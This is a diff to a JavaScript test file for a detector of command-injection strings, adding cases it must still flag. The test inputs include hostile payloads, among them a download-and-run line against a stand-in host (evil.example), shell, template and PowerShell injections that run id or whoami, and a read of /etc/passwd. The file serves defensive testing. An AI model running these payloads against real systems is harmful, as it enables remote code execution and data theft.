@@ -3248,6 +3248,10 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   t.same(json({ label: 'Physical Description', value: '1 negative : glass, wet collodion, b&w ; 10 x 12.5 cm.' }), [], 'b&w in a record')
   for (const v of ['b&w', 'B&W prints', 'Q&A', 'photo b&w; 10 cm']) t.same(q(v), [], v)
   for (const v of ['a&w -h', 'x&w>f', '1&w', 'x&&w', "'&w", 'x&id', 'b&w|id', 'x&w <f']) t.ok(q(v).includes('rce'), `still read: ${v}`)
+  // (second review) a quote, `^` or `=` glued to the letter makes another program of it: `b&w''atch 'curl …'` ran `watch`
+  for (const v of ["x\";b&w'atch' \"touch /tmp/p\"", "b&w''atch 'curl -o /tmp/x.sh evil.example/x.sh;sh /tmp/x.sh'", 'b&w"sl" sh -c id', "b&w''hich id", 'b&w^hoami']) {
+    t.ok(q(v).includes('rce'), `still read: ${v}`)
+  }
   // (review) what follows `w` is judged too: a substitution, a comment then a line, a redirection by its descriptor ran in bash
   for (const v of ['x&w `sleep 2`', 'b&w `id>/tmp/p1`', 'x&w #\nid>/tmp/p2', 'x&w ;#\nid', 'x&w ${x:-`id`}', 'x&w 1>/tmp/p4', 'x&w 0</etc/passwd', 'x&w "$(id)"', 'x&w \\\nid']) {
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
@@ -3257,6 +3261,11 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   t.same(json({ id: 7, code: bicep }), [], 'a Bicep resource')
   t.same(json({ id: 7, code: "module relays 'relay/main.bicep' = [\n  for (relay, index) in (relays ?? []): {\n    name: '${uniqueString(deployment().name, location)}-Relay-${index}'\n  }\n]\n" }), [], 'a Bicep module')
   for (const v of ['${system(id)}', "x ${passthru('id')} y", "resource: '${system(id)}'"]) t.ok(q(v).includes('rce'), `still read: ${v}`)
+  // (second review) a declaration line makes no program of the value: what follows it is read, and PHP's complex syntax with any
+  // function but Bicep's own, or its `@`
+  for (const v of ["'${require('child_process').execSync('id')}'", "'${T(java.lang.Runtime).getRuntime().exec('id')}'", '\'${system("id")}\'', "'${@print(md5(1))}'", '\'x${run("id")}\'', '{${phpinfo()}}']) {
+    for (const head of ["resource x 'Microsoft.Web/sites@2022-01-01' = {\n", "module m 'x.bicep' = {\n"]) t.ok(json({ id: 7, code: head + v }).includes('rce'), `still read: ${head}${v}`)
+  }
   // a static site's page that moved: a refresh to a path on the same site
   t.same(json({ body: '---\ntitle: Redirecting…\n---\n\n<meta http-equiv="refresh" content="0; url=/contributing/measure/troubleshooting/#standby-power-shows-0-w">' }), [], "a page's refresh")
   t.same(q("<meta http-equiv=refresh content='0;url=/docs/'/>"), [], 'unquoted, closed')
@@ -3269,7 +3278,7 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   // PowerShell's pipeline after a quoted path
   t.same(json({ id: 7, snippet: '$currentVersionPath = Get-ChildItem "$poshgitPath\\*posh-git*\\" | Sort-Object -Property LastWriteTime | Select-Object -Last 1\n' }), [], "PowerShell's pipeline")
   // (review) only after a cmdlet's own line: a quote a value closes is still a break-out, and the line after it is judged
-  for (const v of ['"x" | Sort-Object -Property Name\nStart-Process calc', 'x" | Sort-Object -Property Name\nwhoami', '"x" | Select-Object -First 1 | Format-Table\nStop-Computer', '"x" | Where-Object -Property Length -GT 0\r\nid', '"x" | Where-Object -Property Name -eq "a"']) {
+  for (const v of ['"x" | Sort-Object -Property Name\nStart-Process calc', 'x" | Sort-Object -Property Name\nwhoami', '"x" | Select-Object -First 1 | Format-Table\nStop-Computer', '"x" | Where-Object -Property Length -GT 0\r\nid', 'Get-Item x\rwhoami\r" | Sort-Object -Property Name', '"x" | Where-Object -Property Name -eq "a"']) {
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
   for (const v of ['"x" | Sort-Object -Property { Start-Process calc }', '"x" | Where-Object -FilterScript {$_.x}', '"x" | Select-Object -Property Name | Out-File -FilePath c:\\x.txt', '"x" | Sort-Object -Property Name; id', '"x" | Sort-Object -Property Name | iex', '"x" | Sort-Object $(id)']) {
